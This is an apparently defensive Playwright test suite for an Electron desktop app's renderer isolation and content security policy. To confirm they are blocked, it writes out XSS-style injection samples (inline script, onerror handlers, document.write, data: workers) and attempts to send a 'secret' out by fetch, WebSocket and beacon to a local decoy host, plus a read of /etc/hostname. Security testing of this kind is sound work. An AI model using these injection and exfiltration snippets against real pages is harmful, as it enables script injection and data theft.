import { callMain } from '../fixtures/call-main.ts';
import { expect, test } from '../fixtures/desktop.ts';

test.use({ panelIs: 'shared' });

test.describe('the page is shut off from the system', () => {
  test('by the preferences that its window really has', async ({ desktop: { app } }) => {
    const preferences = await callMain(app, ({ BrowserWindow }) => {
      const contents = BrowserWindow.getAllWindows()[0]?.webContents ?? {};
      // Electron uses it itself and does not declare it.
      return Reflect.get(contents, 'getLastWebPreferences').call(contents);
    });
    expect(preferences).toMatchObject({
      contextIsolation: true,
      sandbox: true,
      nodeIntegration: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
      experimentalFeatures: false,
      webviewTag: false,
    });
    expect(preferences.enableBlinkFeatures || '').toBe('');
  });

  test('it has nothing of Node or Electron', async ({ desktop: { page } }) => {
    const found = await page.evaluate(() =>
      [
        'require',
        'process',
        'module',
        'exports',
        'Buffer',
        'global',
        '__dirname',
        'electron',
        'ipcRenderer',
        'setImmediate',
      ].filter((name) => name in window),
    );
    expect(found).toEqual([]);
  });

  test('its shell API is two functions, and leads no further', async ({ desktop: { page } }) => {
    // Run by the debugger, which may evaluate: what the page's policy forbids is not what is proven here.
    const shellApi = await page.evaluate(() => {
      const { flybridge } = window as typeof window & { readonly flybridge: Record<string, CallableFunction> };
      const before = flybridge.invoke;
      const attempts = [
        () => Object.assign(flybridge, { invoke: () => 'replaced' }),
        () => Object.assign(window, { flybridge: {} }),
        () => Reflect.deleteProperty(window, 'flybridge'),
        () => Object.setPrototypeOf(flybridge, { ipcRenderer: 1 }),
      ];
      const outcomes = attempts.map((attempt) => {
        try {
          attempt();
        } catch {
          // What matters is what is there afterwards.
        }
        return Reflect.get(window, 'flybridge').invoke === before;
      });
      const make = Reflect.get(flybridge.invoke ?? {}, 'constructor');
      return {
        names: Object.getOwnPropertyNames(flybridge).sort(),
        outcomes,
        world: make('return [typeof require, typeof process, typeof ipcRenderer].join()')(),
      };
    });
    expect(shellApi).toEqual({
      names: ['connect', 'invoke'],
      outcomes: [true, true, true, true],
      world: 'undefined,undefined,undefined',
    });
  });
});

test.describe('the policy of the page', () => {
  test('refuses to evaluate texts', async ({ desktop: { page } }) => {
    const outcomes = await page.evaluate(async () => {
      // The debugger may evaluate in the turn of its call; after this the page is on its own.
      await new Promise((resolve) => {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = resolve;
        port2.postMessage('next turn');
      });
      const attempts: (() => unknown)[] = [
        () => Reflect.apply(Reflect.get(window, 'eval'), window, ['1 + 1']),
        () => Reflect.apply(Reflect.construct(Function, ['return 2']), null, []),
        () => Reflect.apply(Reflect.construct((async () => 0).constructor, ['return 2']), null, []),
        () => Reflect.apply(setTimeout, window, ['window.attacked = 1']),
        () => Reflect.construct(Worker, ['data:text/javascript,postMessage(1)']),
        () => Reflect.construct(Worker, [URL.createObjectURL(new Blob(['postMessage(1)']))]),
      ];
      return attempts.map((attempt) => {
        try {
          return `ran: ${String(attempt())}`;
        } catch (error) {
          return error instanceof Error ? error.name : 'refused';
        }
      });
    });
    for (const outcome of outcomes) expect(outcome).toMatch(/^(EvalError|TypeError|SecurityError)$/);
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
  });

  test('refuses scripts that are put into it, by code', async ({ desktop: { page }, temptation }) => {
    const outcome = await page.evaluate(async (address) => {
      let refusals = 0;
      let resolveAll = () => {};
      const allRefused = new Promise<void>((resolve) => {
        resolveAll = resolve;
      });
      const countRefusal = () => {
        refusals += 1;
        if (refusals === 7) resolveAll();
      };
      document.addEventListener('securitypolicyviolation', countRefusal);
      const put = (fill: (script: HTMLScriptElement) => void) => {
        const script = document.createElement('script');
        try {
          fill(script);
        } catch {
          countRefusal();
        }
        document.body.append(script);
      };
      put((script) => script.append('window.attacked = 1'));
      put((script) => {
        script.textContent = 'window.attacked = 1';
      });
      put((script) => {
        script.src = `${address}attack.js`;
      });
      put((script) => {
        script.src = 'data:text/javascript,window.attacked = 1';
      });
      for (const set of [
        () => document.body.setAttribute('onclick', 'window.attacked = 1'),
        () => Object.assign(document.body, { innerHTML: '<img src=x onerror="window.attacked = 1">' }),
        () => document.write('<script>window.attacked = 1</script>'),
      ]) {
        try {
          set();
        } catch {
          countRefusal();
        }
      }
      document.body.click();
      await allRefused;
      return { attacked: 'attacked' in window };
    }, temptation.address);
    expect(outcome).toEqual({ attacked: false });
    expect(temptation.connectionCount()).toBe(0);
  });

  test('refuses what markup brings with it', async ({
    desktop: { page },
    temptation: { address, connectionCount },
  }) => {
    const breaches: string[] = [];
    page.on('console', (message) => {
      if (message.text().includes('Content Security Policy directive')) breaches.push(message.text());
    });
    // As a parser would meet it: trusted types guard the ways that code has, and not these.
    const session = await page.context().newCDPSession(page);
    const { frameTree } = await session.send('Page.getFrameTree');
    await session.send('Page.setDocumentContent', {
      frameId: frameTree.frame.id,
      html: `<!doctype html>
        <base href="${address}">
        <meta http-equiv="refresh" content="0; url=${address}refresh">
        <link rel="stylesheet" href="${address}style.css">
        <link rel="prefetch" href="${address}prefetch">
        <link rel="modulepreload" href="${address}module.js">
        <style>body { background: url(${address}background.png) }</style>
        <script>window.attacked = 'inline'</script>
        <script src="${address}script.js"></script>
        <script type="module">import '${address}module.js'</script>
        <body onload="window.attacked = 'onload'">
        <img src="${address}picture.png"><img src="nothing" onerror="window.attacked = 'onerror'">
        <video src="${address}film.mp4" autoplay></video><audio src="${address}sound.mp3" autoplay></audio>
        <object data="${address}object"></object><embed src="${address}embed">
        <form id="form" action="${address}form" method="post"><input name="secret" value="1"></form>
        <p style="background: url(${address}inline.png)">Attack</p>`,
    });
    await page.evaluate(() => (document.getElementById('form') as HTMLFormElement | null)?.submit());
    const refused = [
      'style.css',
      'script.js',
      'module.js',
      'picture.png',
      'film.mp4',
      'sound.mp3',
      'object',
      'embed',
      'form',
    ];
    const expected = ['inline', 'base-uri', ...refused.map((name) => `${address}${name}`)];
    await expect
      .poll(() => expected.filter((name) => !breaches.some((text) => text.includes(name))), 'what was not refused')
      .toEqual([]);
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
    expect(page.url()).toBe('app://flybridge/');
    expect(connectionCount()).toBe(0);
  });

  test('refuses connections to anywhere else', async ({ desktop: { page }, temptation }) => {
    const { address, socketAddress } = temptation;
    const outcomes = await page.evaluate(
      async ([web, socket]) => {
        const refused = (run: () => Promise<unknown>) => run().then(String, (error: Error) => `refused ${error.name}`);
        const failing = (target: EventTarget) =>
          new Promise((_, reject) => target.addEventListener('error', () => reject(new Error('error'))));
        return Promise.all([
          refused(() => fetch(web)),
          refused(() => fetch(web, { mode: 'no-cors', method: 'POST', body: 'secret' })),
          refused(async () => failing(new WebSocket(socket))),
          refused(async () => failing(new EventSource(web))),
          refused(() => {
            const request = new XMLHttpRequest();
            request.open('GET', web);
            const failed = failing(request);
            request.send();
            return failed;
          }),
          refused(async () => `beacon ${navigator.sendBeacon(web, 'secret')}`),
          refused(() => fetch('file:///etc/hostname')),
          refused(() => fetch('app://foreign/index.html')),
          refused(() => import(`${web}module.js`)),
        ]);
      },
      [address, socketAddress] as const,
    );
    for (const [at, outcome] of outcomes.entries()) {
      // A beacon never tells: whether it was sent is seen by the server.
      if (at !== 5) expect(outcome).toMatch(/^refused/);
    }
    expect(temptation.connectionCount()).toBe(0);
  });

  test('is sent with the page itself', async ({ desktop: { page } }) => {
    const headers = await page.evaluate(async () => Object.fromEntries((await fetch('/')).headers));
    expect(headers['content-security-policy']).toContain("default-src 'none'");
    expect(headers['x-content-type-options']).toBe('nosniff');
  });
});
